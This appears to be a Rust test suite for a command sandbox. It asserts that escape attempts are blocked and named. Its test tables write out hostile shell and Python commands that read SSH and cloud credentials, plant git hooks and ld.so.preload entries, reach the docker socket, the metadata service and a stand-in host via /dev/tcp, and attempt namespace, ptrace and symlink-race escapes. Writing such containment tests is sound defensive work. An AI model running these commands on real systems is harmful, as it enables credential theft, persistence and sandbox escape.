//! Scripts that try to do more than their lane allows: stopped, and named.
#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::path::Path;

use stigmer_guard::HostLane;
use stigmer_oracle::{Observation, Trial, Way, beyond, run_all};

/// The world's program.
const PROGRAM: &str = env!("CARGO_BIN_EXE_stigmer-oracle");

/// Seconds: more than any of these takes.
const LONGEST: u64 = 20;

fn run(commands: &[String]) -> Vec<Observation> {
    run_in(HostLane::Workspace, commands)
}

fn run_in(lane: HostLane, commands: &[String]) -> Vec<Observation> {
    let trial = |command: &String| Trial {
        command: command.clone(),
        lane,
        way: Way::Lane,
        programs: Vec::new(),
        seconds: LONGEST,
    };
    let seen = run_all(Path::new(PROGRAM), &commands.iter().map(trial).collect::<Vec<_>>());
    for (command, seen) in commands.iter().zip(&seen) {
        assert_eq!(seen.refused, None, "{command}");
        assert!(!seen.ended, "{command}: {}", seen.output);
        let beyond: Vec<_> = seen.changes.iter().filter(|change| beyond(lane, change)).collect();
        assert!(beyond.is_empty(), "{command}: {beyond:?}");
    }
    seen
}

/// Runs commands each of which has to be named: as a call, and with the end of a path if one is given.
fn stopped(table: &[(&str, &str, &str)]) {
    stopped_in(HostLane::Workspace, table);
}

fn stopped_in(lane: HostLane, table: &[(&str, &str, &str)]) {
    let commands: Vec<String> = table.iter().map(|(command, ..)| (*command).to_owned()).collect();
    let mut wrong = Vec::new();
    for ((command, call, path), seen) in table.iter().zip(run_in(lane, &commands)) {
        let named = seen.denials.iter().any(|denial| {
            let at = denial.path.as_ref().map(ToString::to_string).unwrap_or_default();
            !denial.probe && denial.call == *call && at.ends_with(path)
        });
        if !named {
            wrong.push(format!("{command}\n  {:?}\n  {}", seen.real_denials(), seen.output));
        }
        if seen.output.contains("GOT THROUGH") {
            wrong.push(format!("{command}\n  got through: {}", seen.output));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_lies_outside_is_not_changed() {
    stopped(&[
        ("echo x > ~/made && echo GOT THROUGH", "open", "/home/ada/made"),
        ("echo x >> ~/.bashrc && echo GOT THROUGH", "open", ".bashrc"),
        ("touch ~/project2/file && echo GOT THROUGH", "utime", "project2/file"),
        ("touch -d 2001-01-01 ../project2/file && echo GOT THROUGH", "utime", "project2/file"),
        ("chmod 777 ~/project2/file && echo GOT THROUGH", "chmod", "project2/file"),
        ("chmod 777 ~ && echo GOT THROUGH", "chmod", "/home/ada"),
        ("chown $(id -u) ~/project2/file && echo GOT THROUGH", "chown", "project2/file"),
        ("rm -f ~/.gitconfig", "unlink", ".gitconfig"),
        ("mv ~/.gitconfig . && echo GOT THROUGH", "rename", ".gitconfig"),
        ("mv a.txt ~/project2/ && echo GOT THROUGH", "rename", "a.txt"),
        ("cp a.txt /var/tmp/x && echo GOT THROUGH", "open", "/var/tmp/x"),
        ("mkdir ~/.ssh2 && echo GOT THROUGH", "mkdir", ".ssh2"),
        ("ln ~/.gitconfig x2 && echo GOT THROUGH", "link", ""),
        ("ln ../project2/file x2 && echo GOT THROUGH", "link", ""),
        ("ln -s ~/project2/file l && echo x >> l && echo GOT THROUGH", "open", "l"),
        ("ln -s ../project2 l && echo x > l/made && echo GOT THROUGH", "open", "made"),
        ("ln -s x /home/ada/l && echo GOT THROUGH", "symlink", "/home/ada/l"),
        ("mkfifo ~/fifo && echo GOT THROUGH", "mknod", "/home/ada/fifo"),
        ("truncate -s 0 ~/project2/file && echo GOT THROUGH", "open", "project2/file"),
        (
            "python3 -c 'import os; os.setxattr(\"/home/ada/project2/file\", \"user.x\", b\"1\")' && echo GOT THROUGH",
            "setxattr",
            "project2/file",
        ),
        // What would be loaded into every program, and what a shell, git or cargo obeys.
        ("echo $PWD/x.so > /etc/ld.so.preload && echo GOT THROUGH", "open", "/etc/ld.so.preload"),
        (
            "echo 'LD_PRELOAD=/x' > ~/.pam_environment && echo GOT THROUGH",
            "open",
            ".pam_environment",
        ),
        ("mkdir -p ~/.config/autostart && echo GOT THROUGH", "mkdir", "autostart"),
        ("git config --global core.hooksPath /tmp && echo GOT THROUGH", "open", ".gitconfig.lock"),
        ("echo x > ~/.cargo/config.toml && echo GOT THROUGH", "open", ".cargo/config.toml"),
        ("cp pwn.sh ~/.pyenv/shims/python && echo GOT THROUGH", "open", ".pyenv/shims/python"),
        ("echo x | crontab - && echo GOT THROUGH; echo x > /var/tmp/x", "open", "/var/tmp/x"),
    ]);
}

#[test]
fn hooks_and_settings_of_the_repository_are_not_changed() {
    stopped(&[
        ("cp pwn.sh .git/hooks/pre-commit && echo GOT THROUGH", "open", "hooks/pre-commit"),
        ("echo x >> .git/hooks/post-commit && echo GOT THROUGH", "open", "hooks/post-commit"),
        ("chmod +x .git/hooks/pre-commit.sample && echo GOT THROUGH", "chmod", ".sample"),
        ("mv pwn.sh .git/hooks/ && echo GOT THROUGH", "rename", ""),
        ("ln pwn.sh .git/hooks/pre-commit && echo GOT THROUGH", "link", ""),
        ("rm .git/hooks/post-commit && echo GOT THROUGH", "unlink", "post-commit"),
        ("echo x >> .git/config && echo GOT THROUGH", "open", ".git/config"),
        ("git config --local core.hooksPath hooks && echo GOT THROUGH", "rename", ""),
        ("git config core.fsmonitor ./pwn.sh && echo GOT THROUGH", "rename", ""),
        ("git remote add x ext::./pwn.sh && echo GOT THROUGH", "rename", ""),
        // They say that it is done, and it is not.
        ("git branch --set-upstream-to=dev", "rename", ""),
        ("touch .git/config && echo GOT THROUGH", "utime", ".git/config"),
        ("mv .git g && git init -q && echo GOT THROUGH", "rename", ".git"),
        ("mv .git/hooks h && mkdir .git/hooks && echo GOT THROUGH", "rename", "hooks"),
        ("rm -rf .git; mkdir .git/hooks && echo GOT THROUGH", "unlink", ""),
        (
            "python3 - <<'E' && echo GOT THROUGH\nimport ctypes\nl = ctypes.CDLL(None, use_errno=True)\n\
             # RENAME_EXCHANGE\nr = l.renameat2(-100, b'evil1/.git', -100, b'.git', 2)\nassert r == 0\nE",
            "rename",
            ".git",
        ),
        ("mv .git/config c; cp c .git/config && echo GOT THROUGH", "rename", "config"),
        ("echo '{}' > .claude/settings.json && echo GOT THROUGH", "open", "settings.json"),
        ("mv .vscode v && mkdir .vscode && echo GOT THROUGH", "rename", ".vscode"),
        ("git worktree add -q ../wt && echo GOT THROUGH", "mkdir", "wt"),
        ("git -c protocol.file.allow=always submodule add -q $PWD m", "rename", ""),
        ("cd .. && mv project p && echo GOT THROUGH", "rename", ""),
    ]);
}

#[test]
fn git_is_not_led_to_what_a_command_wrote() {
    stopped(&[
        ("echo x > .git/commondir && echo GOT THROUGH", "open", ".git/commondir"),
        ("echo x > c; mv c .git/commondir && echo GOT THROUGH", "rename", ".git/commondir"),
        ("echo x > c; ln c .git/commondir && echo GOT THROUGH", "link", ".git/commondir"),
        ("ln -s ../docs .git/commondir && echo GOT THROUGH", "symlink", ".git/commondir"),
        ("ln -s .git/commondir l && echo x > l && echo GOT THROUGH", "open", "l"),
        ("ln -s .git l && echo x > l/commondir && echo GOT THROUGH", "open", "l/commondir"),
        ("cd .git && mkdir commondir && echo GOT THROUGH", "mkdir", ".git/commondir"),
        ("echo x > .git/config.worktree && echo GOT THROUGH", "open", ".git/config.worktree"),
        (
            "cd evil1 && echo x >> .git/config.worktree && echo GOT THROUGH",
            "open",
            "config.worktree",
        ),
        ("cd evil1 && rm -f .git/config.worktree && echo GOT THROUGH", "unlink", "config.worktree"),
        ("cp pwn.sh evil1/.githooks/post-commit && echo GOT THROUGH", "open", "post-commit"),
        ("cp pwn.sh evil1/.githooks/post-merge && echo GOT THROUGH", "open", "post-merge"),
        ("mv evil1/.githooks g && echo GOT THROUGH", "rename", ""),
        ("mv evil1 e && echo GOT THROUGH", "rename", ""),
        ("echo x >> evil1/included && echo GOT THROUGH", "open", "evil1/included"),
        ("mv a.txt evil1/included && echo GOT THROUGH", "rename", ""),
        ("echo x > evil1/not-included && echo GOT THROUGH", "open", "evil1/not-included"),
        ("mv a.txt evil1/not-included && echo GOT THROUGH", "rename", "evil1/not-included"),
        (
            "echo 'gitdir: ../../../docs' > evil1/deep/m/.git && echo GOT THROUGH",
            "open",
            "deep/m/.git",
        ),
        ("rm -f evil1/deep/m/.git && echo GOT THROUGH", "unlink", "deep/m/.git"),
        ("mv evil1/deep/m m && echo GOT THROUGH", "rename", ""),
        ("mv evil1/deep m && echo GOT THROUGH", "rename", ""),
        ("echo x > evil1/.git/modules/deep/m/commondir && echo GOT THROUGH", "open", "m/commondir"),
        ("echo x >> evil1/.git/modules/deep/m/config && echo GOT THROUGH", "open", "m/config"),
        ("mv evil1/.git/modules/deep d2 && echo GOT THROUGH", "rename", ""),
        (
            "cd evil1/.git/worktrees/linked && echo x > commondir && echo GOT THROUGH",
            "open",
            "linked/commondir",
        ),
        (
            "cd evil1/.git/worktrees/linked && echo x > gitdir && echo GOT THROUGH",
            "open",
            "linked/gitdir",
        ),
        (
            "cd evil1/.git/worktrees/linked && echo x > config.worktree && echo GOT THROUGH",
            "open",
            "linked/config.worktree",
        ),
        ("mv evil1/.git/worktrees w && echo GOT THROUGH", "rename", ""),
    ]);
}

#[test]
fn secrets_are_not_read() {
    stopped(&[
        ("cat ~/.ssh/id_ed25519", "read", ".ssh/id_ed25519"),
        ("dd if=$HOME/.ssh/id_rsa of=key && echo GOT THROUGH", "read", ".ssh/id_rsa"),
        ("python3 -c 'print(open(\"/home/ada/.aws/credentials\").read())'", "read", "credentials"),
        ("cat ~/project/../.netrc; cat ~/diary", "read", "diary"),
        ("ln -s ~/.ssh/id_ed25519 k2; cat k2", "read", "k2"),
        ("cat /home/bob/diary", "read", "/home/bob/diary"),
        ("cat /proc/self/root/home/ada/.pgpass", "read", ".pgpass"),
        ("cat /proc/1/root/home/ada/.kube/config", "read", ".kube/config"),
        ("sort < ~/.docker/config.json", "read", ".docker/config.json"),
        ("base64 ~/.password-store/x.gpg", "read", "x.gpg"),
        ("exec 3< ~/.config/gh/hosts.yml; cat <&3", "read", "hosts.yml"),
        ("cat ~/.npmrc ~/.cargo/credentials.toml", "read", ".cargo/credentials.toml"),
        ("cat ~/.npmrc", "read", ".npmrc"),
    ]);
    // Who looks first finds a file, tries, and is stopped.
    stopped(&[
        ("cp ~/.ssh/id_rsa key; cat key", "read", ".ssh/id_rsa"),
        ("install -m 600 ~/.ssh/id_rsa key; cat key", "read", ".ssh/id_rsa"),
        (
            "tar -cf k.tar -C ~/.gnupg/private-keys-v1.d key; cat k.tar",
            "read",
            "private-keys-v1.d/key",
        ),
        (
            "[ -r ~/.git-credentials ] && cat ~/.git-credentials; cp ~/.aws/credentials .",
            "read",
            ".git-credentials",
        ),
        ("[ -s ~/.aws/credentials ] && . ~/.aws/credentials", "read", ".aws/credentials"),
        ("sort a.txt ~/.ssh/id_rsa", "read", ".ssh/id_rsa"),
        ("diff a.txt ~/.netrc", "read", ".netrc"),
        ("grep -rs . ~/.config/gcloud", "read", "credentials.db"),
        ("cat ~/.ssh/id_*", "read", ".ssh/id_ed25519"),
        (
            "python3 -c 'import shutil; shutil.copy(\"/home/ada/.ssh/id_rsa\", \"k\")'; cat k",
            "read",
            ".ssh/id_rsa",
        ),
        (
            "python3 -c 'import shutil; shutil.copytree(\"/home/ada/.aws\", \"new\")'; cat new/*",
            "read",
            ".aws/credentials",
        ),
        (
            "node -e 'require(\"fs\").copyFileSync(\"/home/ada/.ssh/id_rsa\", \"k\")'; cat k",
            "read",
            ".ssh/id_rsa",
        ),
        ("ssh-keygen -y -f ~/.ssh/id_ed25519", "read", ".ssh/id_ed25519"),
        ("openssl rsa -in ~/.ssh/id_rsa", "read", ".ssh/id_rsa"),
        ("gpg --batch --homedir $PWD --import ~/.password-store/x.gpg", "read", "x.gpg"),
    ]);
    // Who goes through everything, too.
    let all = [
        "find /home /etc /root /run /proc/1 -name 'id_*' -exec cat {} + 2>/dev/null",
        "grep -rs ORACLE-SECRET ~",
        "tar -cf k.tar ~/.ssh ~/.aws ~/.gnupg ~/.netrc; cat k.tar",
    ];
    for seen in run(&all.map(str::to_owned)) {
        assert!(!seen.output.contains("ORACLE-SECRET"), "{}", seen.output);
        let named = seen.real_denials().iter().any(|one| one.starts_with("read "));
        assert!(named, "{seen:?}");
    }
    // They are not named, and not there: variables of the caller and of who supervises.
    for seen in run(&[
        "env; set; export -p; cat ~/.cargo/credentials.toml".to_owned(),
        "for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; done".to_owned(),
    ]) {
        assert!(!seen.output.contains("ORACLE-SECRET"), "{}", seen.output);
    }
}

/// What a command of the read-only lane is led to by its text is named there, too.
#[test]
fn secrets_are_not_read_in_the_read_only_lane() {
    stopped_in(
        HostLane::ReadOnly,
        &[
            ("cat ~/.ssh/id_ed25519", "read", ".ssh/id_ed25519"),
            ("sort a.txt ~/.ssh/id_rsa", "read", ".ssh/id_rsa"),
            ("[ -r ~/.netrc ] && cat ~/.netrc", "read", ".netrc"),
            ("tar -cf - $HOME/.gnupg | cat", "read", "private-keys-v1.d/key"),
            ("grep -rs ORACLE-SECRET ~", "read", ".git-credentials"),
            ("cd .. && head diary", "read", "diary"),
            ("cat /home/bob/diary", "read", "/home/bob/diary"),
            ("bash -lc 'cat ~/.aws/credentials'", "read", ".aws/credentials"),
            ("ssh-keygen -y -f ~/.ssh/id_ed25519", "read", ".ssh/id_ed25519"),
            ("openssl rsa -in ~/.ssh/id_rsa", "read", ".ssh/id_rsa"),
            ("python3 -c 'print(open(\"/home/ada/.pgpass\").read())'", "read", ".pgpass"),
        ],
    );
    let said = run_in(HostLane::ReadOnly, &["ls ~; ls /tmp; cat /tmp/out.log".to_owned()]);
    for part in ["project2\n", "out.log\n", "outside\n"] {
        assert!(said[0].output.contains(part), "{}", said[0].output);
    }
}

#[test]
fn nobody_is_reached() {
    let python =
        |text: &str| format!("python3 -c 'import socket as s\n{text}\nprint(\"GOT THROUGH\")'");
    let unix = |path: &str| python(&format!("s.socket(s.AF_UNIX).connect(\"{path}\")"));
    let tcp =
        |host: &str, port: u16| python(&format!("s.create_connection((\"{host}\", {port}), 2)"));
    let commands = [
        (unix("/run/docker.sock"), "docker.sock"),
        (unix("/var/run/docker.sock"), "docker.sock"),
        (unix("/home/ada/.agent.sock"), ".agent.sock"),
        (unix("/run/dbus.sock"), "dbus.sock"),
        (unix("\\0oracle"), "@oracle"),
        (tcp("192.0.2.1", 443), "192.0.2.1:443"),
        (tcp("169.254.169.254", 80), "169.254.169.254:80"),
        (tcp("2001:db8::1", 80), ""),
        (
            python("s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b\"x\", (\"192.0.2.1\", 53))"),
            "192.0.2.1:53",
        ),
        ("echo x > /dev/tcp/192.0.2.1/80 && echo GOT THROUGH".to_owned(), "192.0.2.1:80"),
        (
            "ln -s /run/docker.sock d.sock; python3 -c 'import socket as s\n\
             s.socket(s.AF_UNIX).connect(\"d.sock\")' && echo GOT THROUGH"
                .to_owned(),
            "d.sock",
        ),
    ];
    let table: Vec<_> =
        commands.iter().map(|(command, path)| (command.as_str(), "connect", *path)).collect();
    stopped(&table);
    // The loopback interface is another one: nobody listens there, which is no denial.
    for seen in run(&[
        tcp("127.0.0.1", 8080),
        tcp("localhost", 5432),
        python("s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b\"x\", (\"127.0.0.1\", 53)); 1 / 0"),
        python("s.socket(s.AF_UNIX, s.SOCK_DGRAM).sendto(b\"x\", \"/run/log.sock\")"),
    ]) {
        assert!(!seen.output.contains("GOT THROUGH"), "{}", seen.output);
    }
}

/// Makes a system call by its number, and says so if it succeeds.
fn call(number: libc::c_long, arguments: &str) -> String {
    format!(
        "python3 -c 'import ctypes\nl = ctypes.CDLL(None, use_errno=True)\n\
         r = l.syscall({number}{arguments})\nprint(\"GOT THROUGH\" if r >= 0 else r)'"
    )
}

#[test]
fn the_kernels_ways_out_are_shut() {
    let commands = [
        ("mount --bind /tmp docs && echo GOT THROUGH".to_owned(), "mount"),
        ("umount /tmp; umount -l .git/config && echo GOT THROUGH".to_owned(), "umount"),
        ("unshare -Urm true && echo GOT THROUGH".to_owned(), "unshare"),
        ("unshare -n true && echo GOT THROUGH".to_owned(), "unshare"),
        (call(libc::SYS_unshare, ", 0x10000000"), "unshare"),
        (call(libc::SYS_clone, ", 0x10000011, 0, 0, 0, 0"), "unshare"),
        (call(libc::SYS_setns, ", 0, 0"), "setns"),
        (call(libc::SYS_fsopen, ", b\"tmpfs\", 0"), "mount"),
        (call(libc::SYS_open_tree, ", -100, b\"/\", 1"), "mount"),
        (call(libc::SYS_chroot, ", b\"/tmp\""), "chroot"),
        (call(libc::SYS_ptrace, ", 16, 1, 0, 0"), "ptrace"),
        (call(libc::SYS_process_vm_writev, ", 1, 0, 0, 0, 0, 0"), "ptrace"),
        (call(libc::SYS_bpf, ", 0, 0, 0"), "bpf"),
        (call(libc::SYS_keyctl, ", 0, -3, 1"), "keyctl"),
        (call(libc::SYS_open_by_handle_at, ", -100, 0, 0"), "open_by_handle"),
        // The memory of the first process, which guards the lane.
        ("python3 -c 'open(\"/proc/1/mem\", \"r+b\")' && echo GOT THROUGH".to_owned(), "open"),
        (
            "python3 - <<'E' && echo GOT THROUGH\nimport os\nfd = os.memfd_create('x', 0)\n\
             os.write(fd, open('/bin/touch', 'rb').read())\n\
             os.execv('/proc/self/fd/%d' % fd, ['touch', '/home/ada/made'])\nE"
                .to_owned(),
            "open",
        ),
    ];
    let table: Vec<_> =
        commands.iter().map(|(command, name)| (command.as_str(), *name, "")).collect();
    stopped(&table);
    // A runtime tries it first and does without: refused without a word.
    let quietly = [
        call(libc::SYS_io_uring_setup, ", 1, 0"),
        "nsenter -t 1 -m true && echo GOT THROUGH".to_owned(),
        "for p in /proc/[0-9]*; do [ $p = /proc/$$ ] || cat $p/maps $p/root/etc/shadow; done; exit 1"
            .to_owned(),
    ];
    for seen in run(&quietly) {
        assert!(!seen.output.contains("GOT THROUGH"), "{}", seen.output);
    }
}

/// Whoever looks at a path twice may see two different things. The kernel looks once.
#[test]
fn a_name_that_changes_while_it_is_looked_at_leads_nowhere() {
    let race = |first: &str, second: &str, action: &str| {
        format!(
            "python3 - <<'E'\nimport os, threading\nstop = False\nos.symlink('{first}', 'l')\n\
             def swap():\n    while not stop:\n        for at in '{first}', '{second}':\n            \
             os.symlink(at, 't'); os.rename('t', 'l')\n\
             t = threading.Thread(target=swap); t.start()\n\
             for i in range(2000):\n    try: {action}\n    except OSError: pass\n\
             stop = True; t.join()\nE"
        )
    };
    run(&[
        race("docs", "/home/ada/project2", "open('l/raced', 'w').close()"),
        race("docs/guide.md", "/home/ada/project2/file", "os.chmod('l', 0o777)"),
        race("docs/guide.md", "/home/ada/.ssh/id_ed25519", "print(open('l').read()[:13])"),
        race("docs", ".git/hooks", "open('l/pre-commit', 'w').close()"),
        // What gets past the supervisor is taken away.
        race("docs", ".git", "open('l/commondir', 'w').close()"),
        race("docs", "evil1", "open('l/not-included', 'w').close()"),
    ]);
}
